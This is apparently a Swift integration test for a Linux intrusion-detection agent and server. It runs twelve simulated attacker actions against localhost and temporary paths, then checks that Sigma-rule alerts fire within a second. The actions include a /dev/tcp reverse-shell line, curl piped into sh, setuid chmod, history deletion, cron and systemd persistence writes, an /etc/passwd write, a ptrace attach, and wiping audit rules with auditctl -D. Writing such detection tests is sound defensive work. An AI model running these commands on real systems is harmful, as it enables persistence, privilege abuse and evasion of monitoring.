import Foundation
import HerdwatchTestSupport
import Testing

@testable import HerdwatchCollectors

/// The agent (pet profile, its default audit rules) ships over HTTP to `herdwatch server`, which runs
/// the built-in Sigma rules: twelve attacker actions on this host each raise their alert, stored
/// within a second of the action.
@Suite(.serialized) struct DetectionLiveTests {
    struct Action {
        var rule: String
        var title: String
        var command: [String]
        var started: Int64 = 0
    }

    static func now() -> Int64 { Int64(Date().timeIntervalSince1970 * 1000) }

    static func run(_ command: [String]) {
        guard let child = try? ChildProcess.spawn(command) else { return }
        var status: Int32 = 0
        waitpid(child.pid, &status, 0)
    }

    @Test(.enabled(if: AgentTests.available && FileManager.default.isExecutableFile(atPath: ShippingLiveTests.herdwatch), "needs root, the kernel's audit subsystem and the built binaries"))
    func builtInRulesAlertWithinASecondOfTheAction() throws {
        try withKernelAudit {
            let folder = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-detect-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            let tag = "hw-\(getpid())"
            let cron = "/etc/cron.d/\(tag)"
            let unit = "/etc/systemd/system/\(tag).service"
            defer {
                try? FileManager.default.removeItem(at: folder)
                try? FileManager.default.removeItem(atPath: cron)
                try? FileManager.default.removeItem(atPath: unit)
            }
            let token = "web1-\(UUID().uuidString)"
            let tokens = folder.appendingPathComponent("tokens")
            try "web1.example \(token)\n".write(to: tokens, atomically: true, encoding: .utf8)
            let tokenFile = folder.appendingPathComponent("token")
            try token.write(to: tokenFile, atomically: true, encoding: .utf8)
            let database = folder.appendingPathComponent("fleet.db").path
            let port = NATSServer.freePort()
            let server = try spawnServer(
                [ShippingLiveTests.herdwatch, "server", "--listen", "127.0.0.1:\(port)", "--tokens", tokens.path, "--db", database],
                log: folder.appendingPathComponent("server.log").path)
            defer { stopServer(server) }
            waitUntil(seconds: 10) { NATSServer.accepts(port) }

            let netlink = try AuditNetlink(mode: .unicast)
            let agent = try spawnWithDefaultSignals(
                AgentTests.agent,
                ["run", "--mode", "unicast", "--profile", "pet", "--output", folder.appendingPathComponent("events.jsonl").path,
                 "--state-dir", folder.path, "--host-name", "web1.example", "--process-events", "none", "--auth-log", "none",
                 "--heartbeat-interval", "0", "--http", "http://127.0.0.1:\(port)", "--http-token-file", tokenFile.path],
                standardError: folder.appendingPathComponent("agent.log").path)
            defer { stopServer(agent) }
            waitUntil(seconds: 5) { (try? netlink.status().pid) == UInt32(agent) }
            waitUntil(seconds: 5) { (try? netlink.listRules().contains { AuditRuleData.keys(of: $0).contains("exec") }) ?? false }
            usleep(300_000)

            let work = folder.path
            let python = FileManager.default.isExecutableFile(atPath: "/usr/bin/python3") ? "/usr/bin/python3" : "python3"
            try "".write(toFile: "\(work)/.bash_history", atomically: true, encoding: .utf8)
            try "".write(toFile: "\(work)/tool", atomically: true, encoding: .utf8)
            // A process to attach to with ptrace.
            let sleeper = try ChildProcess.spawn(["/bin/sleep", "30"])
            defer { stopServer(sleeper.pid, signal: SIGKILL) }
            let ptrace = """
                import ctypes, sys, time
                libc = ctypes.CDLL(None)
                libc.ptrace(16, int(sys.argv[1]), 0, 0)
                time.sleep(0.2)
                libc.ptrace(17, int(sys.argv[1]), 0, 0)
                """
            var actions = [
                Action(
                    rule: "0efa0a24-b198-439f-941d-6a0325bd622b", title: "reverse shell over /dev/tcp",
                    command: ["/bin/bash", "-c", "echo x >& /dev/tcp/127.0.0.1/1 || true"]),
                Action(
                    rule: "fa7f5622-e70a-41a2-b8b6-ba9a0c013f61", title: "python reverse shell one-liner",
                    command: [python, "-c", "import socket,subprocess\ns=socket.socket()\ntry: s.connect(('127.0.0.1',1))\nexcept OSError: pass"]),
                Action(rule: "58e9946e-5146-47c6-b8a5-8325cb372943", title: "chmod u+s", command: ["/bin/chmod", "u+s", "\(work)/tool"]),
                Action(
                    rule: "7046e7ff-b2fb-481d-9914-925a2a1b4d27", title: "program run from /tmp",
                    command: ["/bin/sh", "-c", "cp /bin/true \(work)/hw-true && \(work)/hw-true"]),
                Action(
                    rule: "d022a5e7-6d28-40b1-9f30-00ff4dc843b1", title: "download piped into a shell",
                    command: ["/bin/bash", "-c", "curl -s --max-time 1 http://127.0.0.1:1/x | sh"]),
                Action(
                    rule: "9100de88-37c1-4b50-a661-8ac2425508a1", title: "shell history deleted",
                    command: ["/bin/rm", "-f", "\(work)/.bash_history"]),
                Action(
                    rule: "c4e1009b-b958-4485-b3ec-ffd73efc8a8d", title: "cron job file written",
                    command: ["/bin/sh", "-c", "echo '# herdwatch test' > \(cron)"]),
                Action(
                    rule: "f1687f16-0dd1-4212-8f4e-e24b788d7892", title: "systemd unit written",
                    command: ["/bin/sh", "-c", "echo '# herdwatch test' > \(unit)"]),
                Action(
                    rule: "fbe7d85b-d786-4bb6-9220-8c02bbbb5ecf", title: "/etc/passwd opened for writing",
                    command: [python, "-c", "open('/etc/passwd', 'a').close()"]),
                Action(
                    rule: "6bdb5595-29f3-4c76-a639-e1f19530ce16", title: "ptrace attach to another process",
                    command: [python, "-c", ptrace, "\(sleeper.pid)"]),
                // Last: it removes every audit rule, the agent's too.
                Action(rule: "1a3167ae-0e60-402a-8c0d-20b700187b80", title: "auditctl -D", command: ["/sbin/auditctl", "-D"]),
                Action(rule: "d234c278-098e-4a41-a5f9-76b7326b4513", title: "audit rules removed (CONFIG_CHANGE)", command: []),
            ]
            for index in actions.indices {
                actions[index].started = Self.now()
                if !actions[index].command.isEmpty {
                    Self.run(actions[index].command)
                } else {
                    actions[index].started = actions[index - 1].started
                }
                usleep(150_000)
            }

            func alerts() -> [String: Int64] {
                let rows = ShippingLiveTests.query(
                    database,
                    "SELECT rule_id, min(CAST((julianday(stored_at) - 2440587.5) * 86400000 AS INTEGER)) FROM alerts GROUP BY rule_id")
                var result: [String: Int64] = [:]
                for parts in rows where parts.count == 2 {
                    if let time = Int64(parts[1]) { result[String(parts[0])] = time }
                }
                return result
            }
            waitUntil(seconds: 15) { Set(actions.map(\.rule)).isSubset(of: alerts().keys) }
            let stored = alerts()
            for action in actions {
                guard let time = stored[action.rule] else {
                    Issue.record("\(action.title): no alert from rule \(action.rule)")
                    continue
                }
                let latency = time - action.started
                print("detection latency: \(latency) ms, \(action.title)")
                #expect(latency < 1000, "\(action.title): alert stored \(latency) ms after the action")
            }
        }
    }
}
